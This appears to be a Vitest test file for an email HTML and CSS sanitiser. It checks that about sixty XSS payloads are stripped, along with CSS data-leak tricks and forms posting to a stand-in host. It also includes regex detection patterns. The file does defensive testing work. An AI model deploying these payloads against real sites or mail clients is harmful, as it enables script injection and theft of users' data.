// @vitest-environment happy-dom
// @vitest-environment-options {"settings": {"disableIframePageLoading": false, "handleDisabledFileLoadingAsSuccess": true}}
import { describe, expect, it } from "vitest";
import { clean, cleanCss } from "./cleaning";

const EVIL = "evil.example";
const FONT = "https://fonts.example/css?family=Inter";
const FONTS = (href: string) => href === FONT;

/** Each of these would run something, navigate, send or fetch if it were left as it is. */
const PAYLOADS: readonly string[] = [
  `<script>alert(1)</script>`,
  `<script src="https://${EVIL}/x.js"></script>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg onload="alert(1)"><circle r="1"/></svg>`,
  `<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>`,
  `<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>`,
  `<svg><use href="https://${EVIL}/x.svg#a"/></svg>`,
  `<svg><use xlink:href="data:text/html,x#a"/></svg>`,
  `<svg><linearGradient href="https://${EVIL}/x.svg#a"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  `<math><mtext href="javascript:alert(1)">x</mtext></math>`,
  `<img src="x" onerror="alert(1)">`,
  `<img src="javascript:alert(1)">`,
  `<input autofocus onfocus="alert(1)">`,
  `<input type="image" src="x" formaction="https://${EVIL}">`,
  `<details open ontoggle="alert(1)"></details>`,
  `<marquee onstart="alert(1)"></marquee>`,
  `<body onpageshow="alert(1)">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href="&#1;javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="https://fine.example" ping="https://${EVIL}/p">x</a>`,
  `<a href="https://fine.example" target="_top" download>x</a>`,
  `<area href="javascript:alert(1)">`,
  `<form action="https://${EVIL}/steal"><button formaction="https://${EVIL}">x</button></form>`,
  `<form action="javascript:alert(1)"><input type="submit"></form>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://${EVIL}/x.swf"></object>`,
  `<embed src="https://${EVIL}/x.swf">`,
  `<applet code="https://${EVIL}"></applet>`,
  `<base href="https://${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL}">`,
  `<meta http-equiv="Content-Security-Policy" content="img-src ${EVIL}">`,
  `<meta name="referrer" content="unsafe-url">`,
  `<link rel="stylesheet" href="https://${EVIL}/x.css">`,
  `<link rel="prefetch" href="https://${EVIL}/x">`,
  `<link rel="dns-prefetch" href="https://${EVIL}">`,
  `<link rel="icon" href="https://${EVIL}/favicon">`,
  `<link rel="import" href="https://${EVIL}/x.html">`,
  `<style>@import "https://${EVIL}/x.css";</style>`,
  `<style>@import url(https://${EVIL}/x.css) screen;</style>`,
  `<style>@im\\70ort url(https://${EVIL}/x.css);</style>`,
  `<style>@import/**/url(https://${EVIL}/x.css)</style>`,
  `<style>input[value^="a"] { background: url(https://${EVIL}/a) }</style>`,
  `<style>a[href*=token]::before { content: url("https://${EVIL}/t") }</style>`,
  `<style>@media all { [data-x=y] { background-image: u\\72l(https://${EVIL}/b) } }</style>`,
  `<style>body { background: image-set("https://${EVIL}/s" 1x) }</style>`,
  `<p style="background:image-set('https://${EVIL}/s' 1x)">x</p>`,
  `<p style="width:expression(alert(1))">x</p>`,
  `<p style="behavior:url(#x);-moz-binding:url(https://fine.example/x.xml#a)">x</p>`,
  `<p style="background:url('javascript:alert(1)')">x</p>`,
  `<video src="https://${EVIL}/v.mp4" autoplay></video>`,
  `<video><source src="https://${EVIL}/v.mp4"><track src="https://${EVIL}/t.vtt"></video>`,
  `<audio src="https://${EVIL}/a.mp3" autoplay></audio>`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><img src="https://${EVIL}/n"></noscript>`,
  `<div contenteditable="true" tabindex="1" accesskey="x">x</div>`,
  `<img src="a.png" srcset="javascript:alert(1) 1x">`,
  `<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
];

const RUNNING = [
  /<(?:script|iframe|object|embed|applet|base|template|noscript|audio|animate|set|foreignObject)\b/i,
  /\son\w+\s*=/i,
  /(?:javascript|vbscript)\s*:/i,
  /data:text/i,
  /http-equiv|unsafe-url|expression\(|behavior|moz-binding|@import/i,
  /\s(?:action|formaction|ping|target|autofocus|autoplay|contenteditable|tabindex|accesskey|srcdoc)\b/i,
];

function cleaned(html: string): string {
  const page = new DOMParser().parseFromString(html, "text/html");
  clean(page, FONTS);
  return page.documentElement.outerHTML;
}

describe("an email on the canvas", () => {
  it.each(PAYLOADS)("does nothing by %s", (payload) => {
    for (const html of [payload, `<div><table><tr><td>${payload}</td></tr></table></div>`]) {
      const left = cleaned(html);
      for (const pattern of RUNNING) {
        expect(left).not.toMatch(pattern);
      }
      expect(left).not.toContain(EVIL);
    }
  });

  it("keeps what emails are made of", () => {
    const html = `<table background="https://a.example/bg.png" role="presentation"><tbody><tr><td class="b-x" style="background:url(&quot;https://a.example/b.png&quot;)"><img src="https://a.example/i.png" srcset="https://a.example/i.png 1x, https://a.example/j.png 2x" alt="javascript: the good parts"><a href="https://a.example/?q=1" class="c">x</a><a href="mailto:a@b.example">y</a></td></tr></tbody></table>`;
    const page = new DOMParser().parseFromString(html, "text/html");
    const before = page.body.innerHTML;
    clean(page, FONTS);
    expect(page.body.innerHTML).toBe(before);
  });

  it("loads the fonts it names, and no other stylesheet", () => {
    const left = cleaned(
      `<head><link rel="stylesheet" href="${FONT}"><style>@import url(${FONT});p{color:red}</style></head>`,
    );
    expect(left).toContain(`@import url(${FONT});p{color:red}`);
    expect(left).toContain(`rel="stylesheet"`);
  });

  it("shows a link that leads nowhere yet as a link, and a picture to come as a place", () => {
    expect(cleaned(`<a href="{{ url }}">x</a>`)).toContain(`href="#"`);
    expect(cleaned(`<img src="{{ image }}">`)).toContain("<img>");
  });
});

describe("css", () => {
  it("that does no harm stays as it is", () => {
    const css = `@media (max-width:480px) { .w-1\\/2, u + .body a[x-apple] { color: red !important } }`;
    expect(cleanCss(css)).toBe(css);
    expect(cleanCss("@font-face{src:url(https://f.example/a.woff2)}")).toBe(
      `@font-face{src:url("https://f.example/a.woff2")}`,
    );
  });
});
